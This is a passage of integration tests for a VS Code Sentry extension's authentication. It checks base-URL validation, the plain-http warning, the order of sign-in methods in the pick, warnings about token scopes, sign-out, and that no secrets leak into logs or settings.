    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    const scopesBefore = cfg.inspect('oauth.scopes')?.globalValue;
    const before = rec.shown.length;
    const reports = () => rec.shown.slice(before).filter((s) => s.level === 'error' && /sentryExplorer\.baseUrl is not a URL \("sentry\.example\.invalid"\)/.test(s.message));
    await cfg.update('baseUrl', 'sentry.example.invalid', vscode.ConfigurationTarget.Global);
    try {
      await waitFor('the report', () => reports().length > 0 || undefined);
      await waitFor('the switch to the default server', () => auth.provider.baseUrl === 'https://sentry.io');
      for (let i = 0; i < 3; i++) assert.equal(auth.config().baseUrl, 'https://sentry.io');
      assert.equal(auth.isSignedIn(), false, 'no session of the sandbox is used for the default server');
      // Another sign-in setting changes while the base URL is still bad: the same problem is not told again.
      await cfg.update('oauth.scopes', 'org:read project:read event:read member:read', vscode.ConfigurationTarget.Global);
      await waitFor('the new scopes', () => auth.config().scopes.includes('member:read') || undefined);
      assert.equal(reports().length, 1, 'reported once');
      assert.equal(rec.shown.slice(before).filter((s) => s.level === 'error').length, 1, 'nothing else was reported');
      assert.ok(readExtensionLog(auth).includes('sentryExplorer.baseUrl is not a URL'), 'logged');
    } finally {
      await cfg.update('oauth.scopes', scopesBefore, vscode.ConfigurationTarget.Global);
      await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
      await waitFor('the switch back', () => auth.provider.baseUrl === SANDBOX_URL);
    }
  });

  it('Sign In offers sentry.io and a self-hosted server: the address is checked, agreed to when plain http, written to sentryExplorer.baseUrl, then signed in to', async () => {
    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    await auth.signOut();
    await cfg.update('baseUrl', undefined, vscode.ConfigurationTarget.Global);
    await waitFor('the default server', () => auth.provider.baseUrl === 'https://sentry.io');
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    const sandboxHost = new URL(SANDBOX_URL!).host;
    const { picks, titles, boxes } = recordPicksAndBoxes(false);
    let signedInThere = false;
    try {
      rec.set({ choices: ['selfHosted', 'selfHosted', 'token'], inputs: ['http://sentry.example.invalid', `${SANDBOX_URL}/`, token.token], answer: () => undefined });
      const before = rec.shown.length;
      const session = await auth.signIn();

      // The pick for sentry.io: its ways to sign in, then, after a separator, a self-hosted server.
      assert.equal(titles[0], 'Sign in to Sentry (sentry.io)');
      const first = picks[0];
      assert.deepEqual(
        first.filter((i) => i.method).map((i) => i.method),
        ['device', 'browser', 'token', 'apiKey'],
      );
      const separator = first.findIndex((i) => i.kind === vscode.QuickPickItemKind.Separator);
      assert.equal(first[separator]?.label, 'Another Sentry server');
      assert.deepEqual(
        first.slice(separator + 1).map((i) => [i.server, i.label]),
        [['selfHosted', '$(server) Self-hosted Sentry…']],
        'no sentry.io item while sentry.io is the server',
      );
      // The address box, held to the setting's rules.
      const address = boxes[0];
      assert.equal(address.title, 'Self-hosted Sentry');
      assert.equal(address.value, undefined);
      assert.match(String(await address.validateInput?.('ftp://sentry.example.com')), /https:\/\/ or http:\/\//);
      assert.match(String(await address.validateInput?.('https://me:secret@sentry.example.com')), /user name or password/);
      assert.equal(await address.validateInput?.('sentry.example.com'), undefined);
      // Plain http to a host that is not loopback: asked first; declined, nothing is written and the pick asks again.
      const asked = rec.shown.slice(before).filter((s) => s.modal && /plain http/.test(s.message));
      assert.deepEqual(
        asked.map((s) => [s.message, s.items]),
        [['http://sentry.example.invalid uses plain http. Your Sentry credentials would travel unencrypted to it.', ['Send Anyway']]],
      );
      assert.equal(titles[1], 'Sign in to Sentry (sentry.io)', 'declined: the pick again, for the same server');
      // The sandbox's address (loopback: nothing to agree to) is written, and the pick is for it, offering sentry.io back.
      assert.equal(cfg.inspect('baseUrl')?.globalValue, SANDBOX_URL);
      assert.equal(titles[2], `Sign in to Sentry (${sandboxHost})`);
      assert.deepEqual(
        picks[2].filter((i) => i.server).map((i) => [i.server, i.label]),
        [
          ['cloud', '$(cloud) sentry.io'],
          ['selfHosted', '$(server) Self-hosted Sentry…'],
        ],
      );
      assert.equal(boxes[1].value, undefined, 'the box for the address');
      assert.equal(session?.kind, 'token');
      assert.ok(rec.shown.slice(before).some((s) => s.message === `Signed in to Sentry (${sandboxHost}) as ${session.account.label}.`));
      await waitFor('the provider on the sandbox', () => auth.provider.baseUrl === SANDBOX_URL || undefined);
      await waitFor('signed in there', () => auth.isSignedIn() || undefined);
      signedInThere = true;

      // sentry.io from the pick: the setting goes back to its default (sentry.io); the pick is then for sentry.io.
      rec.set({ choices: ['selfHosted', 'cloud'], inputs: [] });
      assert.equal(await auth.signIn(), undefined, 'cancelled in the end');
      assert.equal(boxes.at(-1)!.value, SANDBOX_URL, 'the address box offers the current address');
      assert.equal(cfg.inspect('baseUrl')?.globalValue, undefined);
      assert.equal(titles.at(-1), 'Sign in to Sentry (sentry.io)');
    } finally {
      auth.ui.override(rec.ui());
      await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
      await waitFor('the switch back', () => auth.provider.baseUrl === SANDBOX_URL || undefined);
      // Until the sandbox's session is back: the next test reads who is signed in.
      if (signedInThere) await waitFor("the sandbox's session", () => auth.isSignedIn() || undefined);
    }
  });

  /** Records the sign-in quick picks (and their titles) and input boxes (clicking every button of a box first), then answers them as the recorder does. */
  function recordPicksAndBoxes(clickButtons: boolean): { picks: MethodItem[][]; titles: (string | undefined)[]; boxes: InputBoxWithButtonsOptions[] } {
    const picks: MethodItem[][] = [];
    const titles: (string | undefined)[] = [];
    const boxes: InputBoxWithButtonsOptions[] = [];
    const recorded = rec.ui();
    auth.ui.override({
      showQuickPick: async <T extends vscode.QuickPickItem>(items: readonly T[], options: vscode.QuickPickOptions) => {
        picks.push(items.map((i) => ({ ...(i as unknown as MethodItem) })));
        titles.push(options.title);
        return recorded.showQuickPick!(items, options);
      },
      showInputBox: async (options: InputBoxWithButtonsOptions) => {
        boxes.push(options);
        if (clickButtons) for (const b of options.buttons ?? []) await b.run();
        return recorded.showInputBox!(options);
      },
    });
    return { picks, titles, boxes };
  }

  it('without an OAuth client id a pasted token is offered first; its box names the exact scopes, its button opens the token page, and the token signs in', async () => {
    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    await auth.signOut();
    await cfg.update('oauth.clientId', undefined, vscode.ConfigurationTarget.Global);
    const host = new URL(SANDBOX_URL!).host;
    const tokenPage = `${SANDBOX_URL}/settings/account/api/auth-tokens/new-token/`;
    try {
      await waitFor('no client id', () => auth.config().clientId === '' || undefined);
      const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
      seenSecrets.add(token.token);
      const { picks, boxes } = recordPicksAndBoxes(true);
      rec.set({ method: 'token', inputs: [token.token] });
      const opened = rec.opened.length;
      const before = rec.shown.length;
      const session = await auth.signIn();

      const items = picks.at(-1)!.filter((i) => i.method);
      assert.deepEqual(
        items.map((i) => i.method),
        ['token', 'device', 'browser', 'apiKey'],
        'the token first',
      );
      assert.equal(items[0].label, '$(key) Paste an auth token');
      assert.equal(items[0].description, 'recommended');
      assert.ok(
        items.slice(1).every((i) => !i.description),
        'nothing else is recommended',
      );
      assert.equal(items[1].detail, `Approve a short code on ${host} in any browser (asks for the OAuth client id first)`, 'the OAuth ways stay, saying they ask for the client id');
      const box = boxes.at(-1)!;
      assert.equal(box.title, 'Sign in to Sentry with an auth token');
      assert.equal(
        box.prompt,
        `Create a personal token on ${host} with the scopes event:read, org:read, project:read, then paste it here. The button at the top opens the page for a new token. An internal integration token works too.`,
      );
      assert.equal(box.password, true);
      assert.equal(box.buttons?.length, 1, 'one button: the token page');
      assert.deepEqual(rec.opened.slice(opened), [tokenPage], "the button opens exactly the server's new-token page");

      assert.equal(session?.kind, 'token', 'the pasted token signs in');
      assert.deepEqual(session.scopes, SCOPES);
      assert.equal(auth.isSignedIn(), true);
      assert.ok((await (await auth.getClient())!.listOrganizations()).items.length >= 1);
      assert.deepEqual(
        rec.shown.slice(before).map((s) => `${s.level}: ${s.message}`),
        [`info: Signed in to Sentry (${host}) as ${session.account.label}.`],
        'no word of a missing scope: the token has them all',
      );
      assert.equal(auth.config().clientId, '', 'the token way never asks for or stores a client id');
    } finally {
      auth.ui.override(rec.ui());
      await cfg.update('oauth.clientId', defaults.clientId, vscode.ConfigurationTarget.Global);
      await waitFor('the client id back', () => auth.config().clientId === defaults.clientId || undefined);
    }
  });

  it('a pasted token lacking a scope the sign-in asked for (event:write for triage) signs in and says which, offering the token page', async () => {
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    const host = new URL(SANDBOX_URL!).host;
    const tokenPage = `${SANDBOX_URL}/settings/account/api/auth-tokens/new-token/`;
    try {
      const { boxes } = recordPicksAndBoxes(false);
      rec.set({ method: 'token', inputs: [token.token], answer: (s) => (/lacks the scope/.test(s.message) ? 'Open Token Page' : undefined) });
      const opened = rec.opened.length;
      const before = rec.shown.length;
      const session = await auth.signIn({ scopes: ['event:write'], method: 'token' });
      assert.match(boxes.at(-1)!.prompt ?? '', /^Create a personal token on \S+ with the scopes event:read, event:write, org:read, project:read, then paste it here\./);
      assert.equal(session?.kind, 'token', 'signed in all the same');
      assert.deepEqual(session.scopes, SCOPES);
      const warned = rec.shown.slice(before).filter((s) => s.level === 'warning');
      assert.deepEqual(
        warned.map((s) => s.message),
        ['The auth token lacks the scope event:write, which Sentry Explorer asked for: what needs it will be refused. Create a token that has it and sign in again.'],
      );
      assert.deepEqual(warned[0].items, ['Open Token Page']);
      await waitFor('the token page', () => rec.opened.length > opened || undefined);
      assert.deepEqual(rec.opened.slice(opened), [tokenPage]);
      assert.ok(rec.shown.slice(before).some((s) => s.message === `Signed in to Sentry (${host}) as ${session.account.label}.`));
    } finally {
      auth.ui.override(rec.ui());
    }
  });

  it('with an OAuth client id the device flow stays first and recommended', async () => {
    assert.equal(auth.config().clientId, defaults.clientId);
    const { picks, boxes } = recordPicksAndBoxes(false);
    try {
      rec.set({ method: undefined });
      assert.equal(await auth.signIn(), undefined, 'the pick was cancelled');
      const items = picks.at(-1)!.filter((i) => i.method);
      assert.deepEqual(
        items.map((i) => i.method),
        ['device', 'browser', 'token', 'apiKey'],
      );
      assert.equal(items[0].label, '$(device-mobile) Sign in with a code');
      assert.equal(items[0].description, 'recommended');
      assert.ok(items.slice(1).every((i) => !i.description));
      assert.doesNotMatch(items[0].detail ?? '', /client id/);
      // The token box is the same either way: the page button and the exact scopes.
      rec.set({ method: 'token', inputs: [] });
      assert.equal(await auth.signIn(), undefined, 'the token box was cancelled');
      assert.equal(boxes.at(-1)!.buttons?.length, 1);
      assert.match(boxes.at(-1)!.prompt ?? '', /with the scopes event:read, org:read, project:read, then paste it here\./);
    } finally {
      auth.ui.override(rec.ui());
    }
  });

  it('signs out from the command: the session and every secret of it are gone', async () => {
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    rec.set({ method: 'token', inputs: [token.token] });
    assert.ok(await auth.signIn());
    const changes: vscode.AuthenticationSessionsChangeEvent[] = [];
    const sub = vscode.authentication.onDidChangeSessions((e) => e.provider.id === AUTH_PROVIDER_ID && changes.push(e));
    try {
      await collectWireSecrets();
      await vscode.commands.executeCommand(Commands.signOut);
      assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
      assert.deepEqual(await auth.provider.getSessions(undefined), []);
      assert.equal(auth.isSignedIn(), false);
      await waitFor('onDidChangeSessions', () => changes.length > 0 || undefined);
    } finally {
      sub.dispose();
    }
  });

  it('no token, code, verifier or secret appears in the log, the messages, the settings or globalState', async () => {
    await collectWireSecrets();
    const secrets = [...seenSecrets].filter((s) => s && s.length >= 8);
    assert.ok(secrets.length >= 10, `collected ${secrets.length} secrets`);
    const log = readExtensionLog(auth);
    assert.ok(log.includes('[auth]'), 'the log was found and has auth lines');
    const globalState = JSON.stringify(auth.context.globalState.keys().map((k) => [k, auth.context.globalState.get(k)]));
    const settings = JSON.stringify(vscode.workspace.getConfiguration('sentryExplorer').inspect(''));
    const settingsAll = JSON.stringify(['baseUrl', 'oauth.clientId', 'oauth.scopes', 'organization', 'projects'].map((k) => vscode.workspace.getConfiguration('sentryExplorer').inspect(k)));
    const messages = JSON.stringify(rec.shown.filter((s) => !(s.modal && /sign-in code/.test(s.message))));
    const places: Record<string, string> = { log, globalState, settings: settings + settingsAll, messages };
    const leaks: string[] = [];
    for (const [where, text] of Object.entries(places)) {
      for (const s of secrets) if (text.includes(s)) leaks.push(`${where} contains ${s.slice(0, 4)}… (${s.length} chars)`);
    }
    print(`      scanned ${Object.values(places).reduce((n, t) => n + t.length, 0)} characters for ${secrets.length} secrets`);
    assert.deepEqual(leaks, []);
  });
});
